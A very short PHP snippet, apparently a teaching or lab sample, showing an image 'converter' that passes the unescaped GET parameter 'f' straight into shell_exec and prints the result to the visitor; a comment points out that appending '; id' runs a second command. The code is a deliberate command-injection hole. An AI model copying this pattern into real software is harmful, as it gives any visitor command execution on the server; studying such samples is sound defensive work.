<?php
// a "converter" whose output comes back to the visitor: ; id shows what it ran
$out = shell_exec('convert ' . $_GET['f'] . ' out.png 2>&1');
echo "<pre>$out</pre>";
